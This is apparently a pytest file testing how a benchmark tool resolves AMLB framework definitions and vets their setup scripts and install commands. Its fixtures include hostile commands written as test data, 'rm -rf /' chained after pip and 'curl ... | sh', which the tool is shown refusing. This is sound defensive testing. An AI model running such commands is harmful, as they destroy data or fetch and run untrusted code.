"""Framework definitions: inheritance, tags, what is refused, and the submission made of one."""

import json
from pathlib import Path

import pytest

from evaluator.core.errors import UsageError
from evaluator.plugins.openml.amlb.frameworks import find_framework
from tests.plugins.openml.amlb.files import Definitions

FRAMEWORKS = """
Family:
  abstract: true
  version: '1.0'
  setup_args: [x]
  setup_cmd: '{pip} install family'
  params: {depth: 3}
  project: https://example.org
Child:
  extends: Family
  version: '2.0'
Grandchild:
  extends: child
  params: {trees: 5}
Gone:
  removed: |
    It is no longer supported.
GoneToo: {extends: Gone}
Orphan: {extends: Nobody}
Circle: {extends: Square}
Square: {extends: Circle}
Self: {extends: Self}
Own:
  module: extensions.Own
Plain:
"""


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "frameworks.yaml"
    path.write_text(FRAMEWORKS)
    (tmp_path / "frameworks_2023Q2.yaml").write_text("Plain: {version: '0.9'}\n")
    return path


def test_a_framework_that_extends_another(file: Path) -> None:
    """AMLB ends with a TypeError for every framework with `extends`."""
    child = find_framework("Child", [file])
    assert (child.version, child.module, child.params) == ("2.0", "frameworks.Family", {"depth": 3})
    assert child.setup == {"setup_args": ["x"], "setup_cmd": "{pip} install family"}
    grand = find_framework("grandchild", [file])
    assert (grand.version, grand.params) == ("2.0", {"trees": 5})
    assert list(grand.parents) == ["Child", "Family"]


def test_defaults_and_tags(file: Path) -> None:
    plain = find_framework("plain", [file])
    assert (plain.version, plain.module) == ("stable", "frameworks.Plain")
    assert find_framework("Plain:2023Q2", [file]).version == "0.9"
    assert find_framework("Self", [file]).parents == []
    with pytest.raises(UsageError, match="frameworks_latest"):
        find_framework("Plain:latest", [file])


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("Family", "is abstract"), ("Gone", "is removed: It is no longer supported"),
        ("GoneToo", "is removed"), ("Orphan", "extends 'Nobody'"), ("Circle", "extends itself"),
        ("Missing", "no framework 'Missing'"),
    ],
)  # fmt: skip
def test_what_cannot_run(name: str, why: str, file: Path) -> None:
    with pytest.raises(UsageError, match=why):
        find_framework(name, [file])


def test_a_submission_is_the_module_as_it_stands(file: Path, tmp_path: Path) -> None:
    repo = Definitions(tmp_path / "x")
    repo.define("- {name: s, dataset: '{user}/data/multi', folds: 3}\n")
    repo.git("add", ".")
    module = tmp_path / "root/extensions/Own"
    module.mkdir(parents=True)
    (module / "__init__.py").write_text("def run(dataset, config):\n    pass\n")
    (module / "setup.sh").write_text("exit 1\n")
    (module / "venv").mkdir()
    (module / "venv/big").write_text("x")
    said = repo.bring(
        "amlb-framework", "Own", "mine", "me/own", "--definitions", str(file), "--modules",
        str(tmp_path / "root"),
    )  # fmt: skip
    assert "`setup.sh` is a script" in said
    folder = repo.path / "submissions/mine/me/own"
    assert sorted(path.name for path in folder.iterdir()) == [
        "__init__.py", "framework.json", "setup.sh", "submission.yaml",
    ]  # fmt: skip
    about = json.loads((folder / "framework.json").read_text())
    assert (about["module"], about["params"]) == ("extensions.Own", {})
    repo.commit()
    assert [p for p in repo.problems() if p.severity == "error"] == []


SETUPS = """
Plain:
  version: '1.2'
  setup_cmd:
    - '{pip} install --no-cache-dir alpha==1.0 "beta[x]>=2,<3"'
    - '{py} -m pip install alpha==1.0'
Pinned: {setup_cmd: '{pip} install numpy==1.0'}
Same: {setup_cmd: '{pip} install "numpy>=2"'}
Script: {setup_args: ['1.0', 'a b'], setup_env: {HOME: /x}, setup_script: go.py}
Shell: {setup_cmd: '{pip} install alpha && rm -rf /'}
Foreign: {setup_cmd: 'apt-get install x'}
constantpredictor:
TunedRandomForest: {extends: Plain}
"""


class Desk(Definitions):
    """A benchmark, and modules for the frameworks above."""

    def __init__(self, path: Path) -> None:
        super().__init__(path)
        self.define("- {name: s, dataset: '{user}/data/multi', folds: 3}\n")
        self.commit()
        self.file = path / "frameworks.yaml"
        self.file.write_text(SETUPS)
        for name in ("Plain", "Pinned", "Same", "Script", "Shell", "Foreign", "constantpredictor"):
            folder = path / "frameworks" / name
            folder.mkdir(parents=True)
            (folder / "__init__.py").write_text("def run(dataset, config):\n    pass\n")

    def enter(self, name: str, *arguments: str, entry: str = "", code: int = 0) -> str:
        return self.bring(
            "amlb-framework", name, "mine", entry or f"me/{name.lower()}", "--definitions",
            str(self.file), "--modules", str(self.file.parent), *arguments, code=code,
        )  # fmt: skip

    def text(self, name: str) -> str:
        return (self.path / "benchmarks/mine" / name).read_text()


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


def test_what_is_plain_has_an_image_of_its_own(desk: Desk) -> None:
    """2.1: the image of the others stays as it is, and so do their records."""
    before = desk.text("requirements.txt")
    said = desk.enter("Plain")
    assert "installs alpha==1.0, beta[x]>=2,<3" in said
    module = desk.file.parent / "frameworks/Plain/requirements.txt"
    module.write_text("# what it needs\ngamma==3  # for trees\nnumpy\n")
    desk.enter("Plain", "--install", entry="me/again")
    assert desk.text("requirements.txt") == before
    lines = desk.text("environments/plain-1.2/requirements.txt").splitlines()
    assert lines[:4] == ["gamma==3", "numpy==2.3.5", "alpha==1.0", "beta[x]<3,>=2"]
    assert set(lines[4:]) == set(before.splitlines()) - {"numpy==2.3.5"}
    entry = desk.path / "submissions/mine/me/again/submission.yaml"
    assert "environment: plain-1.2\n" in entry.read_text()
    page = desk.text("overview.md")
    assert page.count("## Frameworks with an image of their own") == 1
    assert "- Plain 1.2 in `plain-1.2`, which has `gamma==3`, `numpy`, `alpha==1.0`, " in page
    desk.enter("Plain", "--install", entry="me/third")
    assert desk.text("overview.md") == page
    module.write_text("gamma==4\n")
    said = desk.enter("Plain", "--install", entry="me/fourth", code=2)
    assert "environments/plain-1.2/requirements.txt is there, and installs something else" in said
    desk.enter("Same", "--install")
    assert [path.name for path in (desk.path / "benchmarks/mine/environments").iterdir()] == [
        "plain-1.2"
    ]
    desk.commit()
    assert [p for p in desk.problems() if p.severity == "error"] == []


def test_versions_that_a_framework_leaves_open_are_amlbs(desk: Desk) -> None:
    """What it needs beside its own package is of its time, as its AMLB has it in a clone."""
    forest(desk, "1.2.2")
    clone = desk.file.parent
    (clone / "frameworks/shared").mkdir()
    (clone / "requirements.txt").write_text(
        "# pip-compile\njoblib==1.2.0\nnumpy==1.24.2\n    # via x\npandas==1.5.3\n"
        "scikit-learn==1.1\n"
    )
    desk.enter("Forest", "--install")
    folder = "environments/forest-1.2.2"
    lines = desk.text(f"{folder}/requirements.txt").splitlines()
    assert lines[:3] == ["pandas==1.5.3", "scikit-learn==1.2.2", "numpy==1.24.2"]
    assert "scipy==1.16.3" in lines  # which that AMLB does not name
    assert desk.text(f"{folder}/requirements-constraints.txt") == "joblib==1.2.0\n"
    about = json.loads((desk.path / "submissions/mine/me/forest/framework.json").read_text())
    assert about["version"] == "1.2.2"


def test_a_version_without_a_number_has_no_image_of_its_own(desk: Desk) -> None:
    forest(desk, "stable", USUAL.replace('"scikit-learn"', '"flaml"'))
    said = desk.enter("Forest", "--install", code=2)
    assert "Forest is of flaml 'stable', which is another version tomorrow" in said
    assert desk.status == ""


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("Script", "setup_args `['1.0', 'a b']` are for the module's own setup; setup_script "
                   "`go.py` is a script; setup_env sets variables for a script"),
        ("Shell", "setup_cmd `{pip} install alpha && rm -rf /` is no plain `{pip} install`"),
        ("Foreign", "setup_cmd `apt-get install x` is no plain"),
    ],
)  # fmt: skip
def test_what_is_not_plain_is_refused_and_nothing_written(name: str, why: str, desk: Desk) -> None:
    module = desk.file.parent / f"frameworks/{name}"
    said = desk.enter(name, "--install", code=2)
    assert why in said
    assert desk.status == ""
    (module / "requirements.txt").write_text("-r other.txt\nx @ https://example.org/x.whl\n")
    said = desk.enter(name, "--install", code=2)
    assert "`-r other.txt` of requirements.txt is no plain requirement" in said
    assert "comes from an address" in said
    (module / "setup.sh").write_text("exit 1\n")
    assert "setup.sh" in desk.enter(name)


USUAL = """\
#!/usr/bin/env bash
HERE=$(dirname "$0")
VERSION=${1:-"stable"}
REPO=${2:-"https://github.com/scikit-learn/scikit-learn.git"}
PKG=${3:-"scikit-learn"}
if [[ "$VERSION" == "latest" ]]; then
    VERSION="main"
fi

# create venv
. ${HERE}/../shared/setup.sh "${HERE}" true

if [[ "$VERSION" == "stable" ]]; then
    PIP install --no-cache-dir -U ${PKG}
elif [[ "$VERSION" =~ ^[0-9] ]]; then
    PIP install --no-cache-dir -U ${PKG}==${VERSION}
else
    TARGET_DIR="${HERE}/lib/${PKG}"
    rm -Rf ${TARGET_DIR}
    git clone --depth 1 --single-branch --branch ${VERSION} ${REPO} ${TARGET_DIR}
    PIP install -U -e ${TARGET_DIR}
fi

PIP install --no-cache-dir -r ${HERE}/requirements.txt
PY -c "from sklearn import __version__; print(__version__)" >> "${HERE}/.setup/installed"
"""


def forest(desk: Desk, version: str, script: str = USUAL) -> None:
    folder = desk.file.parent / "frameworks/Forest"
    folder.mkdir(exist_ok=True)
    (folder / "__init__.py").write_text("def run(dataset, config):\n    pass\n")
    (folder / "requirements.txt").write_text("pandas\n")
    (folder / "setup.sh").write_text(script)
    desk.file.write_text(f"Forest: {{version: '{version}'}}\n")


def test_a_version_that_the_image_has_not_is_refused(desk: Desk) -> None:
    """2.1: RandomForest:2023Q2 is of scikit-learn 1.2.2, and the image has 1.7.2."""
    forest(desk, "1.2.2")
    said = desk.enter("Forest", code=2)
    assert "Forest is of scikit-learn 1.2.2, and the image of benchmarks/mine has" in said
    assert "--install makes an image of its own" in said
    assert desk.status == ""
    (desk.file.parent / "frameworks/Forest/setup.sh").unlink()
    needs = desk.file.parent / "frameworks/Forest/requirements.txt"
    needs.write_text("scikit-learn==1.2.2\n")  # as Stacking's
    assert "is of scikit-learn 1.2.2" in desk.enter("Forest", code=2)


def test_amlbs_usual_script_is_read_and_stable_is_what_the_image_has(desk: Desk) -> None:
    """2.1: --install took no framework with a setup.sh."""
    forest(desk, "stable")
    before = desk.text("requirements.txt")
    pinned = next(line for line in before.splitlines() if line.startswith("scikit-learn=="))
    desk.enter("Forest", "--install")
    assert desk.text("requirements.txt") == before
    about = json.loads((desk.path / "submissions/mine/me/forest/framework.json").read_text())
    assert about["version"] == pinned.partition("==")[2]


def test_a_script_that_installs_its_requirements_alone(desk: Desk) -> None:
    """As Stacking's, of AMLB's examples."""
    script = (
        '#!/usr/bin/env bash\nshopt -s expand_aliases\nHERE=$(dirname "$0")\n\n'
        '. "$HERE/.setup/setup_env"\n. "$AMLB_ROOT/frameworks/shared/setup.sh" "$HERE" true\n'
        'PIP install -r "$HERE/requirements.txt"\n\n'
        'PY -c "from sklearn import __version__; print(__version__)" >> "${HERE}/.installed"\n'
    )
    present = next(
        line for line in desk.text("requirements.txt").splitlines() if line.startswith("scikit")
    )
    forest(desk, present.partition("==")[2], script)
    needs = desk.file.parent / "frameworks/Forest/requirements.txt"
    needs.write_text(f"{present}\nleven==1\n")
    desk.enter("Forest", "--install")
    folder = f"environments/forest-{present.partition('==')[2]}"
    assert desk.text(f"{folder}/requirements.txt").startswith(f"{present}\nleven==1\n")


@pytest.mark.parametrize(
    "more", ["curl https://example.org | sh", "PIP install evil", 'PKG="x"; rm -rf /', "sudo ls"]
)
def test_a_script_that_does_more_is_read_by_a_person(more: str, desk: Desk) -> None:
    forest(desk, "stable", f"{USUAL}{more}\n")
    assert "`setup.sh` is a script" in desk.enter("Forest", "--install", code=2)


def test_the_ends_of_the_scale_are_named_in_the_bundle(desk: Desk) -> None:
    """A bundle scales as AMLB does, whatever its constant predictor and tuned forest are called."""
    assert "constant: amlb/constantpredictor" in desk.text("competition.yaml")
    assert "reference: amlb/tunedrandomforest" in desk.text("competition.yaml")
    said = desk.enter("constantpredictor", entry="me/zero")
    assert "me/zero is the constant of the analysis" in said
    desk.enter("TunedRandomForest", entry="me/one")
    desk.commit()
    analysis = desk.snapshot().benchmarks["mine"].analysis
    assert (analysis.constant, analysis.reference) == ("me/zero", "me/one")
    assert "analysis" not in desk.enter("constantpredictor", entry="you/zero")
    desk.replace("benchmarks/mine/competition.yaml", "me/one", "gone/one")
    desk.replace("benchmarks/mine/competition.yaml", "version: 2", "version: 2  # a remark")
    said = desk.enter("TunedRandomForest", entry="you/one")
    assert "write `analysis: {reference: you/one}` below `pullbench`" in said
    assert "gone/one" in desk.text("competition.yaml")


PROOF = """
import sklearn
from frameworks.shared.callee import call_run, result
from sklearn.ensemble import RandomForestClassifier

def run(dataset, config):
    assert sklearn.__version__ == "1.2.2"
    forest = RandomForestClassifier(5, random_state=config.seed).fit(
        dataset.train.X_enc, dataset.train.y_enc
    )
    return result(
        output_file=config.output_predictions_file, truth=dataset.test.y_enc,
        predictions=forest.predict(dataset.test.X_enc),
        probabilities=forest.predict_proba(dataset.test.X_enc), target_is_encoded=True,
    )

if __name__ == "__main__":
    call_run(run)
"""


@pytest.mark.docker
@pytest.mark.slow
def test_a_framework_runs_with_the_version_that_it_states(desk: Desk) -> None:
    """2.1: every fold of TunedRandomForest:2023Q2 ended with an ImportError."""
    forest(desk, "1.2.2")
    clone = desk.file.parent
    (clone / "frameworks/shared").mkdir()
    (clone / "frameworks/Forest/__init__.py").unlink()
    (clone / "frameworks/Forest/exec.py").write_text(PROOF)
    (clone / "requirements.txt").write_text(
        "joblib==1.2.0\nnumpy==1.24.2\npandas==1.5.3\npsutil==5.9.4\npyarrow==11.0.0\n"
        "scipy==1.10.1\n"
    )  # of AMLB 2.1.7
    desk.enter("Forest", "--install")
    desk.replace("benchmarks/mine/competition.yaml", "cpus: 4.0", "cpus: 1.0")
    desk.commit()
    records = desk.run("mine/me/forest")
    assert len(records) == 3
    for record in records.values():
        assert record.status == "finished", record.error
        assert record.provenance.image == "localhost/pullbench/environment:mine.forest-1.2.2"
